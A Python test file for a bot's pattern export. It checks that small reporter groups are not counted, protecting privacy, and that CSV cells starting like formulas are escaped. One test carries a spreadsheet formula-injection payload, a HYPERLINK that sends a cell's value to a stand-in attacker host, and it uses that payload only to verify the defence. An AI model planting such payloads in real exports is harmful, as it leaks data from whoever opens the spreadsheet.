"""`snag export patterns`: the "other" row never shows a count of a slice under k reporters."""

from __future__ import annotations

import csv
import io

from sqlmodel import Session, select

from bot.domain import IncomingMessage
from bot.exporting import pattern_rows
from bot.history import write_rows
from store.models import Pattern, Report, Tenant


def _file(services, reports: list[tuple[str, str]]) -> None:  # type: ignore[no-untyped-def]
    """File (reporter, pattern title) reports and put each into a pattern of that title, by hand."""
    snag = services.snag
    snag.grouper = None  # the patterns are built here
    for i, (user, _) in enumerate(reports):
        snag.handle_message(IncomingMessage(snag.person("slack", "T1", user), f"refunds slow {i}", "C"))
    with Session(services.engine) as s:
        tenant = s.exec(select(Tenant)).one()
        titles = sorted({title for _, title in reports})
        rows = {t: Pattern(tenant_id=tenant.id, title=t) for t in titles}
        s.add_all(rows.values())
        s.commit()
        for report, (_, title) in zip(s.exec(select(Report).order_by(Report.id)).all(), reports, strict=True):
            report.pattern_id = rows[title].id
            rows[title].report_count += 1
            s.add(report)
        s.add_all(rows.values())
        s.commit()


def _export(services) -> list[dict]:  # type: ignore[no-untyped-def]
    return list(pattern_rows(services.repository, services.snag.person("slack", "T1", "a"), k=3))


def test_one_small_pattern_is_counted_nowhere(services) -> None:  # type: ignore[no-untyped-def]
    _file(services, [("a", "Big"), ("b", "Big"), ("c", "Big"), ("d", "Tiny")])
    rows = _export(services)
    assert [r["pattern"] for r in rows][-1] == "other"
    other = rows[-1]
    assert other["reports"] is None and other["reporters"] == "fewer than 3"
    assert not any(ch.isdigit() for ch in other["title"].replace("fewer than 3", ""))  # no "1 pattern(s)"
    out = io.StringIO()
    write_rows(iter(rows), "csv", out)
    line = list(csv.DictReader(io.StringIO(out.getvalue())))[-1]
    assert line["pattern"] == "other" and line["reports"] == "" and line["reporters"] == "fewer than 3"


def test_one_person_in_many_small_patterns_is_still_one_person(services) -> None:  # type: ignore[no-untyped-def]
    # each small pattern has one reporter, three in all by the patterns' own counts, but one person
    _file(services, [("a", "Big"), ("b", "Big"), ("c", "Big"), ("d", "T1"), ("d", "T2"), ("d", "T3"), ("d", "T3")])
    other = _export(services)[-1]
    assert other["pattern"] == "other" and other["reports"] is None and other["reporters"] == "fewer than 3"


def test_small_patterns_of_k_people_in_all_are_counted(services) -> None:  # type: ignore[no-untyped-def]
    _file(services, [("a", "Big"), ("b", "Big"), ("c", "Big"), ("d", "T1"), ("e", "T1"), ("f", "T2"), ("f", "T2")])
    other = _export(services)[-1]
    assert other["reports"] == 4 and other["reporters"] == "3 or more"
    assert other["title"] == "fewer than 3 patterns with fewer than 3 reporters each"


def test_csv_cells_that_start_like_a_formula_are_kept_as_text() -> None:
    """A report "=HYPERLINK(...)" or an owner "@SUM(...)" must not run when the export is opened in a spreadsheet."""
    rows = [
        {"text": '=HYPERLINK("http://evil.example/?x="&A1,"Click") refunds wait', "owner": "@SUM(1+1)"},
        {"text": "+44 line is down", "owner": "-1 team"},
        {"text": "refunds wait in the finance inbox", "owner": "Finance ops"},
        {"text": "\tindented", "owner": None},
    ]
    out = io.StringIO()
    assert write_rows(rows, "csv", out) == 4
    read = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [(r["text"][:2], r["owner"][:2]) for r in read] == [("'=", "'@"), ("'+", "'-"), ("re", "Fi"), ("'\t", "")]
    jsonl = io.StringIO()
    write_rows(rows[:1], "jsonl", jsonl)
    assert '"=HYPERLINK(' in jsonl.getvalue()  # JSON lines keep the text as stored
